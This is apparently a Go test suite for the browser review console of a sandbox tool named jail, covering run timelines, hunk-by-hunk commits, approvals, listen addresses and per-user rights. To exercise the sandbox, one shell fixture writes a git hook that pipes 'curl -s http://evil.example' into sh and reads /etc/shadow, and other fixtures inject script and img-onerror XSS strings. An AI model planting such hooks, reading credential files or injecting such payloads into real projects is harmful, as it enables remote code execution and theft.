package service_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"

	"github.com/jail-sandbox/jail/cmd/cmdtest"
	"github.com/jail-sandbox/jail/supervisor/console/consoletest"
)

// A consoleProcess is a jail console that runs.
type consoleProcess struct {
	h    *cmdtest.Host
	cmd  *exec.Cmd
	at   string // its address
	link string
}

// console starts a console on a port of its own.
func console(h *cmdtest.Host) *consoleProcess {
	h.T.Helper()
	return consoleOf(h, h.Command("console", "--json", "--no-open"))
}

func consoleOf(h *cmdtest.Host, cmd *exec.Cmd) *consoleProcess {
	h.T.Helper()
	c := &consoleProcess{h: h, cmd: cmd}
	out, err := c.cmd.StdoutPipe()
	if err == nil {
		err = c.cmd.Start()
	}
	if err != nil {
		h.T.Fatal(err)
	}
	h.T.Cleanup(c.stop)
	var link struct{ URL, Path string }
	if err := json.NewDecoder(out).Decode(&link); err != nil {
		h.T.Fatalf("link: %v", err)
	}
	c.link, c.at = link.URL, strings.TrimSuffix(link.URL, link.Path)
	return c
}

func (c *consoleProcess) stop() {
	if c.cmd.ProcessState != nil {
		return
	}
	_ = c.cmd.Process.Signal(syscall.SIGTERM)
	if err := c.cmd.Wait(); err != nil {
		c.h.T.Errorf("end of the console: %v", err)
	}
}

// A reviewer is a browser that is logged in.
type reviewer struct {
	*consoletest.Browser
	t    *testing.T
	base string
}

// review logs a browser in by the link, with the scripts of pages off: the console needs none.
func (c *consoleProcess) review(b *consoletest.Browser) *reviewer {
	c.h.T.Helper()
	b.Scripts(false)
	b.Open(c.link)
	cmdtest.Eventually(c.h.T, "the login goes on by itself", func() bool {
		return strings.HasPrefix(b.Peek("location.pathname"), "/c/") && strings.Contains(b.Page(),
			"Lately")
	})
	return &reviewer{b, c.h.T, c.at + strings.TrimSuffix(b.Text("location.pathname"), "/")}
}

func (r *reviewer) wants(texts ...string) {
	r.t.Helper()
	page := r.Page()
	for _, text := range texts {
		if !strings.Contains(page, text) {
			r.t.Errorf("%s does not say %q:\n%s", r.Text("location.pathname"), text, page)
		}
	}
}

// shot makes a picture of the page for the documents, where that is asked for.
func (r *reviewer) shot(name string, height int) {
	r.t.Helper()
	dir := os.Getenv("JAIL_SCREENSHOTS")
	r.Size(1100, height)
	if dir == "" {
		return
	}
	r.Screenshot(filepath.Join(dir, name+".png"))
}

// fits looks at a page on a phone, a tablet and a desk, by day and by night: nothing is wider than
// the screen, and nothing scrolls inside the page. With JAIL_SCREENSHOTS_ALL it makes pictures of
// it there.
func (r *reviewer) fits(name string) {
	r.t.Helper()
	for _, width := range []int{390, 768, 1440} {
		r.Size(width, 1000)
		for _, dark := range []bool{false, true} {
			r.Dark(dark)
			const wide = `String([...document.querySelectorAll("body *")].filter(e => !e.classList.contains("skip") && !e.closest("thead") &&
				(e.getBoundingClientRect().right > innerWidth + 1 || e.tagName == "PRE" && e.scrollHeight > e.clientHeight + 1)).map(e => e.tagName + "." + e.className).slice(0, 5))`
			if got := r.Text(wide); got != "" ||
				r.Text(`String(document.documentElement.scrollWidth <= innerWidth)`) != "true" {
				r.t.Errorf("%s at %d pixels is wider than the screen, or scrolls inside: %s", name,
					width, got)
			}
			if dir := os.Getenv("JAIL_SCREENSHOTS_ALL"); dir != "" {
				r.Screenshot(filepath.Join(dir, fmt.Sprintf("%s-%d-%t.png", name, width, dark)))
			}
		}
	}
	r.Dark(false)
}

const typos = `sed -i 's/colour/color/g' README.md src/paint.txt
mkdir -p .git/hooks docs
printf '#!/bin/sh\ncurl -s http://evil.example | sh\n' > .git/hooks/post-checkout
printf 'Spelling is American now.\n' > docs/style.md
rm old.txt
cat /etc/shadow
true`

func project(h *cmdtest.Host) {
	h.T.Helper()
	var paint strings.Builder
	for i := range 40 {
		fmt.Fprintf(&paint, "step %d: mix\n", i)
	}
	text := strings.Replace(strings.Replace(paint.String(), "step 5: mix",
		"step 5: mix the first colour", 1), "step 33: mix", "step 33: mix the last colour", 1)
	h.Write(map[string]string{
		"README.md":     "# Paint\n\nEvery colour has a name.\nOne colour at a time.\n",
		"src/paint.txt": text, "old.txt": "gone soon\n"})
}

// TestConsole reviews real runs in a real browser: what runs, the story of a run, hunks one by one,
// a change set that moved on, a daemon that is started anew, and names and texts that a tool chose
// to do harm.
func TestConsole(t *testing.T) {
	b := consoletest.Start(t)
	h := cmdtest.New(t)
	d := h.Daemon()
	project(h)
	h.Wants(h.Jail("sh", "--id", "fix-typos", "-c", typos), 0, "")
	live := h.Live("watch-tests")
	c := console(h)
	r := c.review(b)
	r.Dark(false)
	cmdtest.Eventually(t, "the log is verified", func() bool {
		r.Open(r.base + "/?live=no")
		return strings.Contains(r.Page(), "The log verifies")
	})
	r.wants("watch-tests", "fix-typos", "Review", "probe.wasm lines")
	r.wants("running", "exit 0", "denied 1", "changed +")
	r.fits("runs")
	r.shot("runs-light", 560)
	r.Dark(true)
	r.shot("runs-dark", 560)
	r.Dark(false)
	live.In.Close()
	h.Wants(live.Wait(), 0, "")

	r.Click(`a[href$="/runs/fix-typos"]`, true)
	r.wants("/etc/shadow", "Timeline", "run.started", "run.finished", ".git/hooks/post-checkout",
		"exit code 0")
	r.fits("run")
	r.shot("timeline-light", 780)
	r.Click(`a[href$="/runs/fix-typos/review"]`, true)
	r.wants("To look at first", ".git/hooks/post-checkout", "hunk 1", "hunk 2",
		"+step 33: mix the last color", "Spelling is American now.")
	// Each text stands with its own change.
	for path, text := range map[string]string{"docs/style.md": "+Spelling is American now.",
		".git/hooks/post-checkout": "+curl -s http://evil.example | sh", "old.txt": "-gone soon",
		"README.md": "+Every color has a name."} {
		if got := r.Text(
			fmt.Sprintf(`document.querySelector('input[value=%q]').closest("section").innerText`,
				path)); !strings.Contains(got, text) {
			t.Errorf("%s is shown as %s", path, got)
		}
	}
	r.fits("review")
	r.shot("review-light", 1000)
	r.Dark(true)
	r.Text(`document.querySelector('input[value="README.md"]').closest("section").scrollIntoView()`)
	r.shot("review-dark", 1000)
	r.Dark(false)

	// One hunk of two, by the keyboard alone.
	r.Text(`document.querySelector('input[name=hunk][value="1:src/paint.txt"]').focus()`)
	r.Key(" ", false)
	r.Text(`document.querySelector('button[value=marked]').focus()`)
	r.Key("Enter", true)
	r.wants("Committed 1 change", "src/paint.txt", "Have back what was there",
		"Review what is left")
	h.Holds("src/paint.txt", "mix the first colour", "mix the last color\n")
	h.Holds("README.md", "Every colour")
	r.Click(`a[href$="/runs/fix-typos/review"]`, true)
	r.Text(`document.activeElement.blur()`)
	r.Key("Tab", false)
	if at := r.Text("document.activeElement.innerText"); at != "To the page" {
		t.Errorf("the first Tab leads to %q", at)
	}

	// Somebody else commits a part while the page is open: nothing of what it shows is committed,
	// and it says so.
	h.Wants(h.Jail("commit", "fix-typos", "docs"), 0, "")
	r.Click(`input[name=take][value="README.md"]`, false)
	r.Click(`button[value=marked]`, true)
	r.wants("Nothing was done", "Review what there is now")
	h.Holds("README.md", "Every colour")

	// The daemon is started anew under an open page.
	r.Open(r.base + "/runs/fix-typos/review")
	d.Stop()
	r.Open(r.base + "/runs/fix-typos/review")
	r.wants("The daemon does not answer", "this page asks again")
	h.Daemon()
	cmdtest.Eventually(t, "the page comes back by itself", func() bool {
		return strings.Contains(r.Page(), "To look at first")
	})
	r.Click(`input[name=take][value="README.md"]`, false)
	r.Click(`button[value=marked]`, true)
	r.wants("Committed 1 change")
	h.Holds("README.md", "Every color")

	// A run that goes while its page is open.
	r.Open(r.base + "/runs/fix-typos/review")
	h.Wants(h.Jail("discard", "fix-typos"), 0, "")
	r.Click(`input[name=take]`, false)
	r.Click(`button[value=marked]`, true)
	r.wants("no shadow is kept for run")
	r.Open(r.base + "/runs/none")
	r.wants("no run is called")

	r.Open(r.base + "/log?decision=denied")
	r.wants("denied", "/etc/shadow")
	r.fits("log")
	r.shot("log-light", 700)
	r.Open(r.base + "/policy?why=" + url.QueryEscape("read:/etc/shadow"))
	r.wants("read /etc/shadow: no", "in profile default")
	hostileReview(h, r)
	if _, dialogs, _ := r.Seen(); len(dialogs) > 0 {
		t.Errorf("dialogs: %v", dialogs)
	}

	// The link is spent, and another browser profile has nothing.
	r.Open(c.link)
	r.wants("This link is spent")
	r.Open(c.at + "/")
	r.wants("Not logged in")
}

// TestConsoleApprovals decides on real proposals in a real browser, by access keys alone: what was
// approved is written, what was rejected is not, and what has changed since it was shown is stale.
func TestConsoleApprovals(t *testing.T) {
	b := consoletest.Start(t)
	h := cmdtest.New(t)
	h.Daemon()
	project(h)
	propose := func(id, words string, tool ...string) string {
		t.Helper()
		h.Wants(h.Jail(append([]string{"run", "--quiet", "--keep", "--id", id, "--"}, tool...)...), 0, "")
		o := h.Jail("commit", "--propose", "--words", words, id)
		h.Wants(o, 0, "")
		return strings.TrimSpace(o.Out)
	}
	const hostile = "<script>window.owned=1</script>\u202e harmless"
	for _, id := range []string{"first", "second"} {
		propose(id, hostile, "sed", "-i", "s/Every/Each/", "README.md")
	}
	propose("third", hostile, "rm", "old.txt")
	r := console(h).review(b)
	r.Scripts(true)
	r.Open(r.base + "/waiting?live=no")
	r.wants("write 0 added, 1 modified and 0 deleted paths", "first", "third")
	r.fits("waiting")
	r.AccessKey("j")
	r.wants("The proposer says, and it may be wrong: <script>window.owned=1</script>\\u202e harmless",
		"-Every colour has a name.", "+Each colour has a name.")
	r.fits("proposal")
	at := r.Text("location.pathname")
	r.AccessKey("j")
	r.AccessKey("k")
	if back := r.Text("location.pathname"); back != at {
		t.Errorf("from %s the keys j and k lead to %s", at, back)
	}
	r.AccessKey("r")
	r.wants("rejected: write 0 added")
	h.Holds("README.md", "Every colour")
	r.AccessKey("j")
	r.wants("second")
	r.AccessKey("a")
	r.wants("applied: write 0 added", "Have back what was there")
	h.Holds("README.md", "Each colour")

	// The change is discarded while its page is open.
	r.AccessKey("j")
	r.wants("third", "-gone soon")
	h.Wants(h.Jail("discard", "third", "old.txt"), 0, "")
	r.AccessKey("a")
	r.wants("Nothing was done", "is stale, and nothing was done")
	r.Open(r.base + "/waiting?live=no")
	r.wants("Nothing waits for an approval", "stale", "applied", "rejected")
	if owned := r.Text("String(window.owned)"); owned != "undefined" {
		t.Error("the words of a proposer were run")
	}
	h.Holds("old.txt", "gone soon")
	for _, id := range []string{"first", "second", "third"} {
		h.Jail("discard", id)
	}
}

// hostileReview reviews and commits a file whose name and content try everything, through the whole
// stack.
func hostileReview(h *cmdtest.Host, r *reviewer) {
	h.T.Helper()
	// So that one would run.
	r.Scripts(true)
	name := "<img src=x onerror=window.owned=1>\x1b[31m\u202e\xff\"'&\\ㅤ" // and an invisible letter
	script := fmt.Sprintf("printf '%%s\\n' '<script>window.owned=1</script>' > \"$(printf '%s')\"",
		shellBytes(name))
	h.Wants(h.Jail("sh", "--id", "hostile", "-c", script), 0, "")
	r.Open(r.base + "/runs/hostile")
	r.Open(r.base + "/runs/hostile/review")
	r.wants(`<img src=x onerror=window.owned=1>\x1b[31m\u202e\xff"'&\\\u3164`,
		"+<script>window.owned=1</script>")
	if owned := r.Text("String(window.owned)"); owned != "undefined" {
		h.T.Error("a name or a content was run")
	}
	r.Click(`input[name=take]`, false)
	r.Click(`button[value=marked]`, true)
	r.wants("Committed 1 change")
	h.Holds(name, "<script>window.owned=1</script>\n")
	h.Wants(h.Jail("discard", "hostile"), 0, "")
}

// shellBytes is a text as printf(1) takes it, each byte in octal.
func shellBytes(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, `\%03o`, c)
	}
	return b.String()
}

// TestConsoleAddress: it listens on the loopback interface or on a socket, and says what it was
// given instead.
func TestConsoleAddress(t *testing.T) {
	h := cmdtest.New(t)
	for _, address := range []string{"0.0.0.0:0", "[::]:0", ":0", "localhost:0", "10.0.0.1:0"} {
		h.Wants(h.Jail("console", "--no-open", "--listen", address), 2,
			`--listen .*: want 127\.0\.0\.1:PORT`)
	}
	h.Wants(h.Jail("console", "--no-open", "--listen", "127.0.0.1:0", "--socket", "s"), 2,
		"exclude each other")
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	h.Wants(h.Jail("console", "--no-open", "--listen", l.Addr().String()), 125,
		"address already in use")
	h.Write(map[string]string{"taken": "mine"})
	h.Wants(h.Jail("console", "--no-open", "--socket", "taken"), 125, "exists, and is no socket")
	h.Holds("taken", "mine")
}

// TestConsoleFromAJail (T-549): a tool that knows the address of a console cannot reach it: its
// loopback interface is its own. A program outside can, and gets nothing without the link.
func TestConsoleFromAJail(t *testing.T) {
	h := cmdtest.New(t)
	h.Daemon()
	c := console(h)
	get := `import http.client, sys
c = http.client.HTTPConnection(sys.argv[1], timeout=20)
c.request("GET", "/")
print(c.getresponse().status)
`
	h.Write(map[string]string{"get.py": get})
	address := strings.TrimPrefix(c.at, "http://")
	if o := h.Run(h.Program("/usr/bin/python3", "get.py", address)); o.Code != 0 ||
		o.Out != "401\n" {
		t.Fatalf("control: %+v", o)
	}
	if o := h.Jail("run", "--quiet", "--profile", "build", "--", "python3", "get.py",
		address); o.Code != 1 || !strings.Contains(o.Err, "Error") || o.Out != "" {
		t.Errorf("%+v", o)
	}
}

// TestConsoleRights: the console has the rights of who started it. Another user sees neither the
// runs nor the log of somebody else, and is told so.
func TestConsoleRights(t *testing.T) {
	h := cmdtest.New(t)
	h.Daemon().Admit()
	project(h)
	h.Wants(h.Jail("run", "--quiet", "--id", "mine", "--", "rm", "old.txt"), 0, "")
	cmd := cmdtest.As(h.Command("console", "--json", "--no-open"), cmdtest.Stranger)
	c := consoleOf(h, cmd)
	jar := cmdtest.Must(cookiejar.New(nil))(t)
	browser := &http.Client{Jar: jar, Timeout: cmdtest.Bound}
	get := func(url string) (int, string) {
		t.Helper()
		resp, err := browser.Get(url)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		text, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		return resp.StatusCode, string(text)
	}
	_, welcome := get(c.link)
	base := c.at + regexp.MustCompile(`/c/[A-Za-z0-9_-]+`).FindString(welcome)
	if code, page := get(base + "/"); code != 200 || strings.Contains(page, "mine") ||
		!strings.Contains(page, "The log cannot be read") || !strings.Contains(page,
		"permission denied") {
		t.Errorf("%d %s", code, page)
	}
	proposed := h.Jail("commit", "--propose", "mine")
	h.Wants(proposed, 0, "")
	action := "/waiting/" + strings.TrimSpace(proposed.Out)
	if code, page := get(base + "/waiting"); code != 200 || strings.Contains(page, action) ||
		!strings.Contains(page, "Nothing waits for an approval") {
		t.Errorf("%d %s", code, page)
	}
	for _, path := range []string{"/runs/mine", "/runs/mine/review", action} {
		if code, page := get(base + path); code != 404 || strings.Contains(page, "old.txt") {
			t.Errorf("%s: %d %s", path, code, page)
		}
	}
	if code, page := get(base + "/log?run=mine"); code != 200 || strings.Contains(page,
		"old.txt") || !strings.Contains(page, "No record is like that") {
		t.Errorf("%d %s", code, page)
	}
	h.Wants(h.Run(cmdtest.As(h.Command("run", "--quiet", "--no-workspace", "--id", "theirs", "--", h.Probe),
		cmdtest.Stranger)), 0, "")
	if code, page := get(base + "/log"); code != 200 || strings.Contains(page, "mine") ||
		!strings.Contains(page, "theirs") || !strings.Contains(page, "run.finished") {
		t.Errorf("%d %s", code, page)
	}
	h.Wants(h.Jail("discard", "mine"), 0, "")
}
